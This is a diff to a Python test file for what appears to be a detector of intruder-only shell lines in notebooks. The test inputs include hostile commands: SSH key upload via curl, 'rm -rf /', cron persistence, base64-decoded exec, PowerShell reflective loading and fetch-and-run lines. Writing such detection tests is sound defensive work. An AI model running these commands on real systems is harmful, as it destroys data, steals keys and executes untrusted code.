@@ -102,6 +102,8 @@ def test_a_notebook_in_a_tree_is_none_of_ours(tmp_path: Path) -> None:
         "(crontab -l; echo '* * * * * x') | crontab -",
         "rm -rf / --no-preserve-root",
         "curl -F f=@~/.ssh/id_rsa http://127.0.0.1:9",
+        "python3 -c \"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\"",
+        "[Reflection.Assembly]::Load([Convert]::FromBase64String($text))",
     ],
 )
 def test_lines_that_only_an_intruder_needs(line: str) -> None:
@@ -117,6 +119,8 @@ def test_lines_that_only_an_intruder_needs(line: str) -> None:
         'sh -c "$(curl -fsSL http://127.0.0.1:9/x)"',
         "curl -o /tmp/a http://127.0.0.1:9/x && chmod +x /tmp/a && /tmp/a",
         "curl -s http://127.0.0.1:9/x |\n  sh",
+        "curl -o a.exe http://127.0.0.1:9/a.exe && a.exe",
+        "iwr http://127.0.0.1:9/a.exe -OutFile a.exe; Start-Process a.exe",
     ],
 )
 def test_lines_that_run_what_they_fetch(line: str) -> None:
@@ -136,6 +140,9 @@ def test_lines_that_run_what_they_fetch(line: str) -> None:
         "base64 -d < in > out",
         "echo $PATH | sh -n",
         "nc -z 127.0.0.1 80",
+        "curl -o model.bin https://example.com/model.bin && echo ok",
+        "curl -LO https://example.com/setup.exe & echo done",
+        'python3 -c "import torch; print(torch.__version__)"',
         "python -c 'import socket; print(socket.gethostname())'",
     ],
 )
@@ -255,11 +262,33 @@ def test_any_bytes_give_a_bundle_or_an_error_of_ours(data: bytes, name: str) -> 
 
 
 @settings(max_examples=80, deadline=None)
-@given(st.recursive(st.none() | st.integers() | st.text(max_size=8),
-                    lambda inner: st.lists(inner, max_size=4)
-                    | st.dictionaries(st.sampled_from(
-                        ["cells", "cell_type", "source", "outputs", "data", "metadata", "code",
-                         "worksheets", "text/html", "language_info", "name"]), inner, max_size=4)))
+@given(
+    st.recursive(
+        st.none() | st.integers() | st.text(max_size=8),
+        lambda inner: (
+            st.lists(inner, max_size=4)
+            | st.dictionaries(
+                st.sampled_from(
+                    [
+                        "cells",
+                        "cell_type",
+                        "source",
+                        "outputs",
+                        "data",
+                        "metadata",
+                        "code",
+                        "worksheets",
+                        "text/html",
+                        "language_info",
+                        "name",
+                    ]
+                ),
+                inner,
+                max_size=4,
+            )
+        ),
+    )
+)
 def test_any_json_gives_a_notebook_or_an_error_of_ours(document: object) -> None:
     data = json.dumps(document).encode()
     try:
